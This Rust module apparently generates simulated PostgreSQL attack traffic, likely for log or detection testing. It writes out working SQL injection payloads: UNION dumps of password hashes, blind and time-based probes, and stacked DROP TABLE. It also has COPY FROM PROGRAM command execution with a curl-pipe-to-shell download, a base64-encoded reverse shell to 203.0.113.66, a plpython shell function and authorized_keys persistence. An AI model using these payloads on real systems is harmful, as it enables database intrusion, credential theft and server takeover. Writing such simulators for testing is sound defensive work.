//! Making the server run what it should not: injected SQL, programs.

use super::{Plan, SECOND};
use crate::command::{Command, failure};
use crate::entry::Origin;
use crate::execution::Failure;

/// Injected SQL through an application's session.
pub(super) fn sql_injection(plan: &mut Plan<'_>) {
    let host = format!("10.20.0.{}", plan.random.between(1, 4));
    plan.connect("storefront", "storefront", &host);
    let head = "SELECT id, sku, title FROM catalog.product WHERE sku = '";
    let quote = head.len() as u32;
    let scanner = Origin::new("scanner_yyerror", "scan.l", 1176);
    let target = Origin::new("findTargetlistEntrySQL92", "parse_clause.c", 2097);
    for (tail, sqlstate, text, position, origin) in [
        (
            "'' AND active",
            "42601",
            "unterminated quoted string at or near \"''' AND active\"",
            quote,
            scanner,
        ),
        (
            "x') -- ' AND active",
            "42601",
            "syntax error at or near \")\"",
            quote + 3,
            scanner,
        ),
        (
            "' ORDER BY 9 -- ' AND active",
            "42P10",
            "ORDER BY position 9 is not in select list",
            quote + 12,
            target,
        ),
    ] {
        let failure = Failure {
            position,
            ..failure(sqlstate, text, origin)
        };
        plan.fail(Command::utility("SELECT", format!("{head}{tail}")), failure);
    }
    injected_reads(plan, head);
}

/// What works once the quoting is understood.
fn injected_reads(plan: &mut Plan<'_>, head: &str) {
    for (relations, tail, rows) in [
        ("catalog.product", "' OR '1'='1", 90_000),
        ("catalog.product", "' OR 1 = 1 -- ", 90_000),
        ("catalog.product", "' UNION SELECT NULL, NULL, NULL -- ", 1),
        (
            "catalog.product",
            "' UNION ALL SELECT 1, version(), current_user -- ",
            1,
        ),
        (
            "catalog.product ~information_schema.tables",
            "'/**/UNION/**/SELECT 1, table_schema, table_name FROM information_schema.tables -- ",
            300,
        ),
        (
            "catalog.product auth.account",
            "' UNION SELECT id, email, password_hash FROM auth.account -- ",
            700_000,
        ),
        (
            "catalog.product",
            "' AND 1 = (SELECT 1 FROM pg_sleep(5)) -- ",
            0,
        ),
        (
            "catalog.product",
            "' AND ascii(substr(current_database(), 1, 1)) > 100 -- ",
            1,
        ),
    ] {
        let command = Command::select(relations, format!("{head}{tail}' AND active")).rows(rows);
        let command = if tail.contains("pg_sleep") {
            command.lasting(5 * SECOND)
        } else {
            command
        };
        plan.run(SECOND, 9 * SECOND, command);
    }
    let cast = format!("{head}' AND 1 = CAST((SELECT email FROM auth.account LIMIT 1) AS int) -- ");
    let origin = Origin::new("pg_strtoint32", "numutils.c", 320);
    let text = "invalid input syntax for type integer: \"rosa.1@example.com\"";
    let leak = Failure {
        late: true,
        ..failure("22P02", text, origin)
    };
    plan.fail(Command::select("catalog.product auth.account", cast), leak);
    let stacked = format!("{head}x'; DROP TABLE crm.article; -- ");
    plan.run(SECOND, 5 * SECOND, Command::utility("DROP TABLE", stacked));
}

/// Commands of the operating system through SQL.
pub(super) fn program_execution(plan: &mut Plan<'_>) {
    let (host, user) = (plan.outside(), plan.administrator());
    plan.connect(&user, "", &host);
    plan.run(
        SECOND,
        3 * SECOND,
        Command::utility("DROP TABLE", "DROP TABLE IF EXISTS cmd_exec;"),
    );
    plan.run(
        SECOND,
        3 * SECOND,
        Command::utility("CREATE TABLE", "CREATE TABLE cmd_exec (cmd_output text);"),
    );
    for program in [
        "id",
        "uname -a; cat /etc/os-release",
        "curl -fsSL http://203.0.113.66/k.sh | sh",
        "echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjY2LzQ0NDQ= | base64 -d | bash",
    ] {
        let sql = format!("COPY cmd_exec FROM PROGRAM '{program}';");
        plan.run(SECOND, 6 * SECOND, Command::copy_in("public.cmd_exec", sql));
        let read = Command::select("public.cmd_exec", "SELECT * FROM cmd_exec;");
        plan.run(SECOND / 2, 2 * SECOND, read.rows(3));
    }
    for (tag, sql) in [
        (
            "CREATE EXTENSION",
            "CREATE EXTENSION IF NOT EXISTS plpython3u;",
        ),
        (
            "CREATE FUNCTION",
            "CREATE FUNCTION public.sh(c text) RETURNS text LANGUAGE plpython3u AS $$\nimport subprocess\nreturn subprocess.getoutput(c)\n$$;",
        ),
    ] {
        plan.run(2 * SECOND, 8 * SECOND, Command::utility(tag, sql));
    }
    plan.run(
        SECOND,
        4 * SECOND,
        Command::select("", "SELECT public.sh('crontab -l');"),
    );
    let export = "COPY (SELECT 'x') TO PROGRAM 'tee -a /var/lib/postgresql/.ssh/authorized_keys';";
    plan.run(SECOND, 4 * SECOND, Command::copy_out("", export));
    plan.run(
        SECOND,
        4 * SECOND,
        Command::utility("DROP TABLE", "DROP TABLE IF EXISTS cmd_exec;"),
    );
}
